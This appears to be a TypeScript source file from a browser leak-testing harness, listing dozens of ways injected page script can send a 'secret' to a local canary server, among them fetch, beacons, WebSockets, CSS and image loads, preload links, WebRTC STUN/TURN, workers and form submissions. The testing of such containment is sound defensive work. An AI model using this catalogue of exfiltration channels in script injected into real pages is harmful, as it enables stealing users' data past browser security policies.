import type { Targets } from './canary';

/**
 * Ways out of a page for script that an attacker got to run in it. Each function runs inside of the page and must
 * stand alone. The name of a vector is the last part of the address it asks for.
 */
type Vector = (to: Targets) => unknown;

/** Ways that leave the page as it is: tried one after another in the page that holds the pictures. */
export const stayingVectors: Readonly<Record<string, Vector>> = {
  'fetch-get': (to) => fetch(`${to.http}leak/fetch-get?d=secret`),
  'fetch-post': (to) => fetch(`${to.http}leak/fetch-post`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'fetch-keepalive': (to) => fetch(`${to.http}leak/fetch-keepalive`, { keepalive: true, mode: 'no-cors' }),
  'fetch-later': (to) =>
    (globalThis as unknown as { fetchLater(url: string, o: object): void }).fetchLater(`${to.http}leak/fetch-later`, {
      activateAfter: 0
    }),
  'cache-add': async (to) => (await caches.open('eyechart leak')).add(`${to.http}leak/cache-add`),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${to.http}leak/xhr`);
    request.send('secret');
  },
  beacon: (to) => navigator.sendBeacon(`${to.http}leak/beacon`, 'secret'),
  websocket: (to) => new WebSocket(`${to.ws}leak/websocket`),
  'websocket-stream': (to) =>
    new (globalThis as unknown as { WebSocketStream: new (url: string) => unknown }).WebSocketStream(
      `${to.ws}leak/websocket-stream`
    ),
  eventsource: (to) => new EventSource(`${to.http}leak/eventsource.events`),
  webtransport: (to) => {
    const transport = new WebTransport(`https://127.0.0.1:${to.udp['webtransport']}/`);
    transport.ready.catch(() => undefined);
    transport.closed.catch(() => undefined);
  },
  'img-src': (to) => (new Image().src = `${to.http}leak/img-src.svg`),
  'img-srcset': (to) => (new Image().srcset = `${to.http}leak/img-srcset.svg 1x`),
  'picture-source': (to) => {
    const picture = document.createElement('picture');
    const source = document.createElement('source');
    source.srcset = `${to.http}leak/picture-source.svg`;
    picture.append(source, document.createElement('img'));
    document.body.append(picture);
  },
  'video-src': (to) => (document.createElement('video').src = `${to.http}leak/video-src`),
  'video-poster': (to) => {
    const video = document.createElement('video');
    video.poster = `${to.http}leak/video-poster.svg`;
    document.body.append(video);
  },
  'audio-src': (to) => (new Audio().src = `${to.http}leak/audio-src`),
  'video-track': (to) => {
    const video = document.createElement('video');
    const track = document.createElement('track');
    video.crossOrigin = 'anonymous';
    track.src = `${to.http}leak/video-track`;
    track.default = true;
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  'input-image': (to) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = `${to.http}leak/input-image.svg`;
    document.body.append(input);
  },
  'svg-image': (to) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `${to.http}leak/svg-image.svg`);
    svg.append(image);
    document.body.append(svg);
  },
  'svg-fe-image': (to) => {
    const make = (name: string) => document.createElementNS('http://www.w3.org/2000/svg', name);
    const [svg, filter, image, rect] = ['svg', 'filter', 'feImage', 'rect'].map(make) as SVGElement[];
    image?.setAttribute('href', `${to.http}leak/svg-fe-image.svg`);
    filter?.setAttribute('id', 'leak-filter');
    rect?.setAttribute('filter', 'url(#leak-filter)');
    rect?.setAttribute('width', '9');
    rect?.setAttribute('height', '9');
    filter?.append(image as SVGElement);
    svg?.append(filter as SVGElement, rect as SVGElement);
    document.body.append(svg as SVGElement);
  },
  'table-background': (to) => {
    const table = document.createElement('table');
    table.setAttribute('background', `${to.http}leak/table-background.svg`);
    document.body.append(table);
  },
  'style-background': (to) => (document.body.style.backgroundImage = `url(${to.http}leak/style-background.svg)`),
  'style-list': (to) => {
    const item = document.createElement('li');
    item.style.listStyleImage = `url(${to.http}leak/style-list.svg)`;
    document.body.append(item);
  },
  'style-content': (to) => {
    const item = document.createElement('b');
    item.style.content = `url(${to.http}leak/style-content.svg)`;
    document.body.append(item);
  },
  'style-mask': (to) => {
    const item = document.createElement('p');
    item.style.maskImage = `url(${to.http}leak/style-mask.svg)`;
    item.textContent = 'mask';
    document.body.append(item);
  },
  'style-cursor': (to) => (document.body.style.cursor = `url(${to.http}leak/style-cursor.svg), auto`),
  'style-border': (to) => {
    const item = document.createElement('p');
    item.style.border = '3px solid';
    item.style.borderImage = `url(${to.http}leak/style-border.svg) 1`;
    item.textContent = 'border';
    document.body.append(item);
  },
  'style-element-import': (to) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${to.http}leak/style-element-import.css);`;
    document.head.append(style);
  },
  'style-font': (to) => {
    const style = document.createElement('style');
    style.textContent = `@font-face{font-family:leak;src:url(${to.http}leak/style-font)} body{font-family:leak}`;
    document.head.append(style);
  },
  'sheet-rule': (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`h1{background:url(${to.http}leak/sheet-rule.svg)}`);
    document.adoptedStyleSheets.push(sheet);
    document.body.append(document.createElement('h1'));
  },
  'font-face': (to) => new FontFace('leak2', `url(${to.http}leak/font-face)`).load(),
  'link-stylesheet': (to) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${to.http}leak/link-stylesheet.css`;
    document.head.append(link);
  },
  'link-preload': (to) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = `${to.http}leak/link-preload.svg`;
    document.head.append(link);
  },
  'link-modulepreload': (to) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = `${to.http}leak/link-modulepreload.js`;
    document.head.append(link);
  },
  'link-prefetch': (to) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${to.http}leak/link-prefetch`;
    document.head.append(link);
  },
  'link-preconnect': (to) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = `http://127.0.0.1:${to.tcp['link-preconnect']}/`;
    document.head.append(link);
  },
  'link-dns-prefetch': () => {
    const link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = '//link-dns-prefetch.leak.invalid/';
    document.head.append(link);
  },
  'link-manifest': (to) => {
    for (const old of document.querySelectorAll('link[rel=manifest]')) old.remove();
    const link = document.createElement('link');
    link.rel = 'manifest';
    link.href = `${to.http}leak/link-manifest`;
    document.head.append(link);
  },
  script: (to) => {
    const script = document.createElement('script');
    script.src = `${to.http}leak/script.js`;
    document.head.append(script);
  },
  'script-module': (to) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = `${to.http}leak/script-module.js`;
    document.head.append(script);
  },
  'script-speculation': (to) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({
      prefetch: [{ source: 'list', eagerness: 'immediate', urls: [`${to.http}leak/script-speculation`] }]
    });
    document.head.append(script);
  },
  'inner-html': (to) => {
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = `<img src="${to.http}leak/inner-html.svg">`;
  },
  import: (to) => import(`${to.http}leak/import.js`),
  'audio-worklet': (to) => new AudioContext().audioWorklet.addModule(`${to.http}leak/audio-worklet.js`),
  'iframe-src': (to) => {
    const frame = document.createElement('iframe');
    frame.src = `${to.http}leak/iframe-src`;
    document.body.append(frame);
  },
  'iframe-srcdoc': (to) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${to.http}leak/iframe-srcdoc.svg">`;
    document.body.append(frame);
  },
  'iframe-blank-fetch': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(`${to.http}leak/iframe-blank-fetch`);
  },
  object: (to) => {
    const item = document.createElement('object');
    item.data = `${to.http}leak/object`;
    document.body.append(item);
  },
  embed: (to) => {
    const item = document.createElement('embed');
    item.src = `${to.http}leak/embed.svg`;
    document.body.append(item);
  },
  'a-ping': (to) => {
    const link = document.createElement('a');
    link.href = '#leak';
    link.ping = `${to.http}leak/a-ping`;
    document.body.append(link);
    link.click();
  },
  'form-frame': (to) => {
    const frame = document.createElement('iframe');
    frame.name = 'leak-form';
    const form = document.createElement('form');
    form.target = 'leak-form';
    form.method = 'post';
    form.action = `${to.http}leak/form-frame`;
    document.body.append(frame, form);
    form.submit();
  }
};

/** Ways that leave the page, open another, or may end its process: each is tried in a page of its own. */
export const lonelyVectors: Readonly<Record<string, Vector>> = {
  location: (to) => (location.href = `${to.http}leak/location?d=secret`),
  'location-replace': (to) => location.replace(`${to.http}leak/location-replace`),
  navigation: (to) =>
    (globalThis as unknown as { navigation: { navigate(url: string): void } }).navigation.navigate(
      `${to.http}leak/navigation`
    ),
  'a-click': (to) => {
    const link = document.createElement('a');
    link.href = `${to.http}leak/a-click`;
    document.body.append(link);
    link.click();
  },
  'a-blank': (to) => {
    const link = document.createElement('a');
    link.href = `${to.http}leak/a-blank`;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  'a-download': (to) => {
    const link = document.createElement('a');
    link.href = `${to.http}leak/a-download`;
    link.download = 'x';
    document.body.append(link);
    link.click();
  },
  'svg-a': (to) => {
    const link = document.createElementNS('http://www.w3.org/2000/svg', 'a');
    link.setAttribute('href', `${to.http}leak/svg-a`);
    document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'svg').appendChild(link));
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  },
  'window-open': (to) => window.open(`${to.http}leak/window-open`),
  'meta-refresh': (to) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${to.http}leak/meta-refresh`;
    document.head.append(meta);
  },
  'form-get': (to) => {
    const form = document.createElement('form');
    form.action = `${to.http}leak/form-get`;
    document.body.append(form);
    form.submit();
  },
  'form-post': (to) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${to.http}leak/form-post`;
    document.body.append(form);
    form.submit();
  },
  'button-formaction': (to) => {
    const form = document.createElement('form');
    const button = document.createElement('button');
    button.formAction = `${to.http}leak/button-formaction`;
    form.append(button);
    document.body.append(form);
    button.click();
  },
  'rtc-stun': (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${to.udp['rtc-stun']}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'rtc-turn-udp': (to) => {
    const urls = `turn:127.0.0.1:${to.udp['rtc-turn-udp']}`;
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'rtc-turn-tcp': (to) => {
    const urls = `turn:127.0.0.1:${to.tcp['rtc-turn-tcp']}?transport=tcp`;
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'rtc-iframe': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${to.udp['rtc-iframe']}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'worker-blob': (to) => {
    const code = `fetch(${JSON.stringify(`${to.http}leak/worker-blob`)})`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'worker-data': (to) => {
    const code = `fetch(${JSON.stringify(`${to.http}leak/worker-data`)})`;
    return new Worker(`data:text/javascript,${encodeURIComponent(code)}`);
  },
  'shared-worker': (to) => {
    const code = `fetch(${JSON.stringify(`${to.http}leak/shared-worker`)})`;
    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  }
};

/** Vectors that are heard on a port of their own. */
export const UDP_VECTORS = ['webtransport', 'rtc-stun', 'rtc-turn-udp', 'rtc-iframe'];
export const TCP_VECTORS = ['link-preconnect', 'rtc-turn-tcp'];
